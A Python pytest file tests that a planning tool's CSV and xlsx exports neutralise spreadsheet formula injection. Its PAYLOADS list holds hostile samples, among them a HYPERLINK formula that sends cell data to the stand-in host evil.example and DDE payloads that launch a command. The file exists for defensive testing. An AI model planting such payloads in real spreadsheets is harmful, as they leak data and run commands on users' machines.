"""Outputs safe for any plan text: no CSV cell a spreadsheet evaluates, no xlsx formula."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from kehoach.writers import csv_cell

from .conftest import PLANS, plan_text
from .helpers import run
from .test_rollup import copy_plans

# What LibreOffice evaluated when kehoach wrote it as it was (issue 14, finding 8).
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "=1+1\nthứ hai",
]
LIVE = re.compile(r"[=+\-@\t\r]")
SIGNED_NUMBER = re.compile(r"[-+][0-9]+(?:[.,][0-9]+)?")


def inert(data: bytes) -> list[list[str]]:
    """The CSV's rows, after checking that no field starts like a formula."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    for row in rows:
        for field in row:
            assert not LIVE.match(field) or SIGNED_NUMBER.fullmatch(field), field
    return rows


def hostile_plan(tmp_path: Path) -> Path:
    rows = "".join(f"- {{number: '{i}', id: t{i}, text: {json.dumps(p)}, lead: Phòng Kinh tế, "
                   f"deadline: {json.dumps(p)}}}\n" for i, p in enumerate(PAYLOADS, start=1))
    text, _ = plan_text(rows)
    folder = tmp_path / "plans"
    folder.mkdir()
    (folder / "p.yaml").write_text(text, encoding="utf-8")
    return folder


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("-2", "-2"), ("-2,5", "-2,5"), ("-2+3", "'-2+3"), ("@A1", "'@A1"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("+84 912", "'+84 912"), ("a=1", "a=1"), (-2, -2), (1.5, 1.5),
    (None, ""), (["=a", "b"], "'=a; b"),
])
def test_csv_cell(value: object, expected: object) -> None:
    assert csv_cell(value) == expected


def test_export_csv_neutralises_formulas(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    r = run(capsys, "export", str(hostile_plan(tmp_path)), "--format", "csv")
    assert r.code == 0, r.err
    header, *rows = inert(r.out.encode())
    texts = [dict(zip(header, row, strict=True))["text"] for row in rows]
    # The model strips the text's ends, so the tab and CR payloads arrive as "=1+1": neutralised all the same.
    assert texts == ["'" + p.strip() for p in PAYLOADS]


def test_status_csv_neutralises_formulas(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    r = run(capsys, "status", str(hostile_plan(tmp_path)), "--as-of", "2026-03-01", "--format", "csv")
    assert r.code == 0, r.err
    header, *rows = inert(r.out.encode())
    assert len(rows) == len(PAYLOADS)
    assert {row[header.index("text")] for row in rows} == {"'" + p.strip() for p in PAYLOADS}


def test_rollup_csv_neutralises_formulas(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                         monkeypatch: pytest.MonkeyPatch) -> None:
    plans = copy_plans(tmp_path, monkeypatch)
    communes = sorted((plans / "hai-phong").glob("*.yaml"))
    communes = [p for p in communes if p.name != "units.yaml"]
    for plan, payload in zip(communes, PAYLOADS, strict=False):
        text = plan.read_text(encoding="utf-8")
        line = re.search(r"(?m)^  commune: .*$", text)
        assert line is not None
        plan.write_text(text.replace(line.group(0), f"  commune: {json.dumps(payload)}"), encoding="utf-8")
    r = run(capsys, "rollup", str(plans), "--as-of", "2026-06-30", "--format", "csv")
    assert r.code == 0, r.err
    header, *rows = inert(r.out.encode())
    seen = {row[header.index("commune")] for row in rows}
    # The commune is not stripped here: "\t=1+1" arrives with its tab, and gets its quote in front.
    assert {"'" + p for p in PAYLOADS[:len(communes)]} <= seen


@pytest.mark.parametrize("command", [["export"], ["status", "--as-of", "2026-03-01"]])
def test_xlsx_keeps_formulas_as_text(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                     command: list[str]) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "out.xlsx"
    r = run(capsys, *command, str(hostile_plan(tmp_path)), "--format", "xlsx", "-o", str(out))
    assert r.code == 0, r.err
    cells = [c for ws in load_workbook(out).worksheets for row in ws.iter_rows() for c in row]
    assert cells and all(c.data_type != "f" for c in cells)
    values = {c.value for c in cells}
    assert {p.strip() for p in PAYLOADS} <= values


def test_bundled_plans_csv_unchanged_by_the_rule(capsys: pytest.CaptureFixture[str]) -> None:
    # The real plans hold no text that starts like a formula: their export reads as before.
    r = run(capsys, "export", str(PLANS), "--format", "csv")
    assert r.code == 0 and "'" + "=" not in r.out
    inert(r.out.encode())
